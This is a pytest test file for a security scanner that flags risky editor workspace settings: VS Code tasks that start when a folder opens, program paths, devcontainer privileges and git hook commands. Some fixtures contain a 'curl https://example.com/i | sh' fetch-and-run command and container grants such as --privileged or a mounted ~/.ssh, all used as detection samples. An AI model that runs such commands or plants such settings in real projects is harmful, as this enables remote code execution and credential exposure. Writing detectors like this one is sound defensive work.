"""Workspaces of editors: what starts when they are opened, which programs they name, what their containers may."""

import pytest

from scanner.derive.document.editor import derive
from tests.builders.deployments import token
from tests.builders.settings import settings


def facts(name, value, form="json"):
    return list(derive([settings(name, value, form)]))


def runs(name, value, form="json"):
    return [(one.when, one.command) for one in facts(name, value, form) if type(one).__name__ == "EditorRuns"]


def test_a_task_that_starts_on_opening_is_told():
    task = {"label": "a", "command": "echo", "args": ["hi"], "runOptions": {"runOn": "folderOpen"}}
    assert runs(".vscode/tasks.json", {"tasks": [task]}) == [("opened", "echo hi")]
    assert runs("x.code-workspace", {"tasks": {"tasks": [task]}}) == [("opened", "echo hi")]
    task["runOptions"]["runOn"] = "default"
    assert runs(".vscode/tasks.json", {"tasks": [task]}) == []


@pytest.mark.parametrize(
    ("key", "value", "effect"),
    [
        ("python.defaultInterpreterPath", "${workspaceFolder}/bin/py", "program-inside"),
        ("python.defaultInterpreterPath", "./py", "program-inside"),
        ("git.path", "tools/git", "program-inside"),
        ("terminal.integrated.profiles.linux", {"x": {"path": "./sh"}}, "program-inside"),
        ("rust-analyzer.server.path", "/opt/ra", "program"),
        ("task.allowAutomaticTasks", "on", "trust"),
        ("security.workspace.trust.enabled", False, "trust"),
        ("python.defaultInterpreterPath", ".venv/bin/python", ""),
        ("python.defaultInterpreterPath", "${workspaceFolder}/venv/bin/python", ""),
        ("python.defaultInterpreterPath", "python3", ""),
        ("typescript.tsdk", "node_modules/typescript/lib", ""),
        ("terminal.integrated.profiles.linux", {"bash": {"path": "/bin/bash"}}, ""),
        ("task.allowAutomaticTasks", "off", ""),
        ("editor.rulers", "100", ""),
        ("chat.tools.autoApprove", True, ""),
    ],
)
def test_a_setting_that_names_a_program_or_widens_trust_is_told(key, value, effect):
    found = [one.effect for one in facts(".vscode/settings.json", {key: value})]
    assert found == ([effect] if effect else [])
    assert [one.effect for one in facts("a.code-workspace", {"settings": {key: value}})] == found


def test_the_same_settings_elsewhere_are_none():
    assert facts("settings.json", {"git.path": "./x"}) == []


@pytest.mark.parametrize(
    ("value", "kinds"),
    [
        ({"initializeCommand": "echo hi"}, ["EditorRuns"]),
        ({"initializeCommand": ["echo", "hi"]}, ["EditorRuns"]),
        ({"initializeCommand": {"a": "echo hi", "b": ["echo"]}}, ["EditorRuns", "EditorRuns"]),
        ({"postCreateCommand": "pip install -e ."}, []),
        ({"postCreateCommand": "curl https://example.com/i | sh"}, ["CommandActs"]),
        ({"runArgs": ["--privileged"]}, ["ContainerGrant"]),
        (
            {"runArgs": ["--cap-add=SYS_PTRACE", "--security-opt", "seccomp=unconfined"]},
            ["ContainerGrant", "ContainerGrant"],
        ),
        ({"runArgs": ["--gpus", "all"]}, []),
        ({"mounts": ["source=/var/run/docker.sock,target=/x,type=bind"]}, ["ContainerGrant"]),
        ({"mounts": [{"source": "${localEnv:HOME}/.ssh", "target": "/x"}]}, ["ContainerGrant"]),
        ({"mounts": ["source=a,target=/x,type=volume"]}, []),
        ({"privileged": True}, ["ContainerGrant"]),
        ({"containerEnv": {"HF_TOKEN": token()}}, ["SecretGiven"]),
        ({"image": "x:1"}, ["ImageUsed"]),
    ],
)
def test_a_container_of_an_editor_is_read(value, kinds):
    assert [type(one).__name__ for one in facts(".devcontainer/devcontainer.json", value)] == kinds


def test_what_runs_on_the_machine_itself_is_told_apart():
    assert runs(".devcontainer/devcontainer.json", {"initializeCommand": "echo hi"}) == [("host", "echo hi")]


def test_hooks_of_tools_are_read():
    hook = {"id": "a", "entry": "sh x.sh", "language": "system"}
    assert runs(".pre-commit-config.yaml", {"repos": [{"repo": "local", "hooks": [hook]}]}, "yaml") == [
        ("git", "sh x.sh")
    ]
    assert runs(".pre-commit-config.yaml", {"repos": [{"repo": "https://example.com", "hooks": [hook]}]}, "yaml") == []
    left = {
        "pre-commit": {"commands": {"a": {"run": "curl https://example.com/i | sh"}}},
        "remotes": [{"git_url": "https://example.com"}],
    }
    assert [type(one).__name__ for one in facts("lefthook.yml", left, "yaml")] == ["CommandActs", "EditorRuns"]


def test_what_a_command_does_is_told_beside_that_it_runs():
    task = {"command": "curl https://example.com/i | sh", "runOptions": {"runOn": "folderOpen"}}
    found = facts(".vscode/tasks.json", {"tasks": [task]})
    assert [type(one).__name__ for one in found] == ["EditorRuns", "CommandActs"]
    assert found[0].acts == ("fetch-run",)
    found = facts(".vscode/tasks.json", {"tasks": [task | {"command": "echo hi"}]})
    assert [one.acts for one in found] == [()]
